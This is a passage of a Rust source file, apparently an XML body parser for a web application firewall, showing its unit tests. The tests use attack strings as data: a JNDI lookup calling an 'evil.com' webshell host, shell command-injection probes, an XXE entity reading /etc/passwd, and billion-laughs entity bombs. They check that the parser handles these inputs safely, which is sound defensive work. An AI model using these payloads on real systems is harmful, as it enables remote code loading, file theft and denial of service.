            out.push(if in_attr && (c == b'\t' || c == b'\n' || c == b'\r') {
                b' '
            } else {
                c
            });
            i += 1;
        }
        Ok(())
    }

    fn charge(&mut self, n: usize) -> R<()> {
        if n > self.budget {
            // Maximum entity amplification exceeded.
            return Err(Fatal);
        }
        self.budget -= n;
        Ok(())
    }
}

/// The code point of a character reference body (`123` or `x7B`).
fn char_ref(num: &[u8]) -> R<u32> {
    let (digits, radix) = match num.strip_prefix(b"x") {
        Some(h) => (h, 16),
        None => (num, 10),
    };
    if digits.is_empty() || digits.len() > 10 {
        return Err(Fatal);
    }
    let mut v: u64 = 0;
    for &d in digits {
        let x = (d as char).to_digit(radix).ok_or(Fatal)?;
        v = v * radix as u64 + x as u64;
    }
    let cp = u32::try_from(v).map_err(|_| Fatal)?;
    if !is_xml_char(cp) {
        return Err(Fatal);
    }
    Ok(cp)
}

fn push_char(out: &mut Vec<u8>, cp: u32) {
    if let Some(c) = char::from_u32(cp) {
        let mut b = [0u8; 4];
        out.extend_from_slice(c.encode_utf8(&mut b).as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc(s: &str) -> (Option<XmlDoc>, bool) {
        parse_document(s.as_bytes())
    }

    fn ok(s: &str) -> XmlDoc {
        let (d, wf) = doc(s);
        assert!(wf, "should be well-formed: {s:?}");
        d.unwrap()
    }

    fn bad(s: &str) {
        let (_, wf) = doc(s);
        assert!(!wf, "should be malformed: {s:?}");
    }

    fn strs(v: &[Vec<u8>]) -> Vec<String> {
        v.iter()
            .map(|x| String::from_utf8_lossy(x).into_owned())
            .collect()
    }

    #[test]
    fn crs_style_documents() {
        let d = ok(
            r#"<?xml version="1.0"?><root><a probe="alias eennvv=env&amp;eennvv whoami"></a></root>"#,
        );
        assert_eq!(strs(&d.attributes), vec!["alias eennvv=env&eennvv whoami"]);
        assert_eq!(strs(&d.text), vec![""]);
        let d = ok(r#"<?xml version="1.0"?><root><a probe="&#x7B;,echo,#test&#x7D;"></a></root>"#);
        assert_eq!(strs(&d.attributes), vec!["{,echo,#test}"]);
        let d = ok(
            r#"<?xml version="1.0"?><xml><l1><l2><l3><element attribute_name="attribute_value">BydW50aW1l</element></l3></l2></l1></xml>"#,
        );
        assert_eq!(strs(&d.text), vec!["BydW50aW1l"]);
        assert_eq!(strs(&d.attributes), vec!["attribute_value"]);
        let d = ok(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><tag attribute="${jndi:ldap://evil.com/webshell}"/>"#,
        );
        assert_eq!(
            strs(&d.attributes),
            vec!["${jndi:ldap://evil.com/webshell}"]
        );
        let d = ok(
            r#"<?xml version="1.0" encoding="UTF-8"?><catalog><tag>ftp%3A%2F%2F1.1.1.1</tag></catalog>"#,
        );
        assert_eq!(strs(&d.text), vec!["ftp%3A%2F%2F1.1.1.1"]);
        // 920240-4: escaped quotes are not attribute values.
        bad(
            r#"<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"></SOAP-ENV:Envelope>"#,
        );
        bad("test");
    }

    #[test]
    fn content_concatenation() {
        let d = ok("<r>a<b>b<![CDATA[<c>]]></b><!-- x --><?pi y?>d&lt;&#65;&#x42;\n</r>");
        assert_eq!(strs(&d.text), vec!["ab<c>d<AB\n"]);
        assert_eq!(
            d.text_node_values()
                .map(|v| String::from_utf8_lossy(v).into_owned())
                .collect::<Vec<_>>(),
            vec!["a", "b", "<c>", "d<AB\n"]
        );
        assert_eq!(d.elements.len(), 2);
        assert_eq!(d.elements[1].name, b"b");
        let d = ok("<a>x\r\ny\rz</a>");
        assert_eq!(strs(&d.text), vec!["x\ny\nz"]);
    }

    #[test]
    fn attributes_and_namespaces() {
        let d = ok("<a xmlns='urn:x' xmlns:p=\"urn:p\" p:x='1' y=\"a\tb\nc&#10;d\"><p:b z='&quot;&apos;'/></a>");
        assert_eq!(strs(&d.attributes), vec!["1", "a b c\nd", "\"'"]);
        assert_eq!(d.attribute_names[0].1, b"p:x");
        bad("<a x='1' x='2'/>");
        bad("<a x='1'y='2'/>");
        bad("<a x=1/>");
        bad("<a x='<'/>");
        bad("<a x='&foo;'/>");
    }

    #[test]
    fn well_formedness() {
        for s in [
            "",
            "   ",
            "<a>",
            "<a></b>",
            "<a><b></a></b>",
            "<a/><b/>",
            "<a/>text",
            "text<a/>",
            "<a>&foo;</a>",
            "<a>&#0;</a>",
            "<a>&#xD800;</a>",
            "<a>]]></a>",
            "<a><!-- -- --></a>",
            "<a><?xml version='1.0'?></a>",
            "<?xml version='1.0'?><?xml version='1.0'?><a/>",
            "<a>\u{1}</a>",
            "<a><![CDATA[x</a>",
            "<1a/>",
            "<a>&amp</a>",
            "<a b/>",
            "<!DOCTYPE a [<!ENTITY e '%x;'>]><a/>",
            "<?xml version='2.0'?><a/>",
            "<?xml encoding='utf-8'?><a/>",
            "<a><!DOCTYPE a></a>",
        ] {
            bad(s);
        }
        for s in [
            "<a/>",
            " <a/> ",
            "<?xml version='1.0'?>\n<!-- c --><a/><!-- d -->\n<?pi x?>",
            "<a >x</a >",
            "<a\n\tb = 'c' />",
            "<?xml version='1.0' encoding='ISO-8859-1' standalone='no' ?><a/>",
            "<a>]]</a>",
            "<a>&#x10FFFF;</a>",
            "\u{feff}<a/>",
        ] {
            ok(s);
        }
        // Invalid UTF-8.
        let (_, wf) = parse_document(b"<a>\xff</a>");
        assert!(!wf);
    }

    #[test]
    fn partial_document_kept() {
        let (d, wf) = doc("<root><a x='1'>hello</a><b>world");
        assert!(!wf);
        let d = d.unwrap();
        assert_eq!(strs(&d.text), vec!["helloworld"]);
        assert_eq!(strs(&d.attributes), vec!["1"]);
        let mut out = ParsedBody::default();
        parse(b"<a>", &mut out, false);
        assert_eq!(out.error.as_deref(), Some(ERROR_MSG));
        let mut out = ParsedBody::default();
        parse(b"", &mut out, false);
        assert!(out.error.is_none() && out.xml.is_none());
    }

    #[test]
    fn dtd_entities() {
        let d = ok("<!DOCTYPE a [<!ENTITY e \"E&f;\"><!ENTITY f 'F&#x41;'><!ELEMENT a ANY><!ATTLIST a x CDATA '>'>]><a x='&e;'>&e;</a>");
        assert_eq!(strs(&d.text), vec!["EFA"]);
        assert_eq!(strs(&d.attributes), vec!["EFA"]);
        // External entities are not loaded.
        let d = ok("<!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><a>x&xxe;y</a>");
        assert_eq!(strs(&d.text), vec!["xy"]);
        bad("<!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><a b='&xxe;'/>");
        // Undeclared entity: fatal without an external subset, tolerated with one.
        bad("<!DOCTYPE a [<!ELEMENT a ANY>]><a>&u;</a>");
        ok("<!DOCTYPE a SYSTEM 'a.dtd'><a>&u;</a>");
        // Loops and billion laughs.
        bad("<!DOCTYPE a [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><a>&a;</a>");
        let mut s = String::from("<!DOCTYPE a [<!ENTITY l0 'lollollollol'>");
        for k in 1..10 {
            let p = k - 1;
            s.push_str(&format!(
                "<!ENTITY l{k} '&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};'>"
            ));
        }
        s.push_str("]><a>&l9;</a>");
        bad(&s);
        // The same with entities that expand to nothing.
        let mut s = String::from("<!DOCTYPE a [<!ENTITY x SYSTEM 'x'><!ENTITY l0 '&x;'>");
        for k in 1..12 {
            let p = k - 1;
            s.push_str(&format!(
                "<!ENTITY l{k} '&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};'>"
            ));
        }
        s.push_str("]><a>&l11;</a>");
        let t = std::time::Instant::now();
        bad(&s);
        assert!(t.elapsed().as_secs() < 5);
    }

    #[test]
    fn encodings() {
        let mut b = b"<?xml version='1.0' encoding='ISO-8859-1'?><a>".to_vec();
        b.push(0xE9);
        b.extend_from_slice(b"</a>");
        let (d, wf) = parse_document(&b);
        assert!(wf);
        assert_eq!(d.unwrap().text[0], "é".as_bytes());
        let mut b = b"<?xml version='1.0' encoding='windows-1252'?><a>".to_vec();
        b.push(0x80);
        b.extend_from_slice(b"</a>");
        assert_eq!(parse_document(&b).0.unwrap().text[0], "€".as_bytes());
        let u16le: Vec<u8> = "\u{feff}<a b='x'>hé</a>"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        let (d, wf) = parse_document(&u16le);
        assert!(wf);
        assert_eq!(d.unwrap().text[0], "hé".as_bytes());
        let u16be: Vec<u8> = "<?xml version='1.0'?><a>z</a>"
            .encode_utf16()
            .flat_map(|u| u.to_be_bytes())
            .collect();
        let (d, wf) = parse_document(&u16be);
        assert!(wf);
        assert_eq!(d.unwrap().text[0], b"z");
        let (d, wf) = parse_document(b"<?xml version='1.0' encoding='IBM037'?><a/>");
        assert!(!wf && d.is_none());
    }

    #[test]
    fn depth_and_size() {
        let deep = format!(
            "{}{}",
            "<a>".repeat(XML_MAX_DEPTH),
            "</a>".repeat(XML_MAX_DEPTH)
        );
        ok(&deep);
        let deeper = format!(
            "{}{}",
            "<a>".repeat(XML_MAX_DEPTH + 1),
            "</a>".repeat(XML_MAX_DEPTH + 1)
        );
        bad(&deeper);
        let huge = "<a>".repeat(1_000_000);
        bad(&huge);
        let many = format!("<r>{}</r>", "<x a='1' b='2'>t</x>".repeat(50_000));
        let d = ok(&many);
        assert_eq!(d.attributes.len(), 100_000);
        assert_eq!(d.text[0].len(), 50_000);
    }

    #[test]
    fn xpath_subset() {
        let d = ok("<r a='1'><x b='2'>one<y c='3'>two</y></x><x>three</x><z><x>four</x></z></r>");
        let s = |e: &str| {
            d.eval_xpath(e).map(|v| {
                v.iter()
                    .map(|x| String::from_utf8_lossy(x).into_owned())
                    .collect::<Vec<_>>()
            })
        };
        assert_eq!(s("/*"), Some(vec!["onetwothreefour".to_string()]));
        assert_eq!(s("/"), Some(vec!["onetwothreefour".to_string()]));
        assert_eq!(s("//@*"), Some(vec!["1".into(), "2".into(), "3".into()]));
        assert_eq!(s("/r/x"), Some(vec!["onetwo".into(), "three".into()]));
        assert_eq!(
            s("//x"),
            Some(vec!["onetwo".into(), "three".into(), "four".into()])
        );
        assert_eq!(s("/r/@a"), Some(vec!["1".into()]));
        assert_eq!(s("/r/@*"), Some(vec!["1".into()]));
        assert_eq!(s("//x/@b"), Some(vec!["2".into()]));
        assert_eq!(
            s("/r//text()"),
            Some(vec![
                "one".into(),
                "two".into(),
                "three".into(),
                "four".into()
            ])
        );
        assert_eq!(s("/r/x/text()"), Some(vec!["one".into(), "three".into()]));
        assert_eq!(s("/q"), Some(vec![]));
        assert_eq!(
            s("//*"),
            Some(vec![
                "onetwothreefour".into(),
                "onetwo".into(),
                "two".into(),
                "three".into(),
                "four".into(),
                "four".into()
            ])
        );
        assert_eq!(s("//x[1]"), None);
        assert_eq!(s("count(//x)"), None);
        assert_eq!(s("//@*/x"), None);
    }
}
